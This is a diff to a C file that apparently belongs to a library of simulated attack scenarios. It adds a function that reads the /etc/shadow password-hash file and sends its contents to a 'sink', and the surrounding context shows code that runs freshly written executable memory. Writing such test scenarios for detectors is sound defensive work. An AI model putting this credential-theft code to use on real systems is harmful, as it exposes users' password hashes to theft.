@@ -115,6 +115,22 @@ static inline int scn_sink_send(const void *buf, size_t len)
 	return strncmp(reply, "OK ", 3) || (size_t)atol(reply + 3) != len ? -1 : 0;
 }
 
+/* Credential theft: the password hashes read and sent to the sink;
+ * `done` once it acknowledged every byte. */
+static inline void scn_steal_shadow(void)
+{
+	char buf[65536];
+	ssize_t n;
+	int fd = open("/etc/shadow", O_RDONLY | O_CLOEXEC);
+
+	if (fd < 0)
+		return;
+	n = read(fd, buf, sizeof(buf));
+	close(fd);
+	if (n > 0 && !scn_sink_send(buf, n))
+		scn_mark("done");
+}
+
 /* Anonymous memory written, made executable and called: the smallest
  * "code that was not in any file" a payload can run. */
 static inline int scn_exec_memory(void)
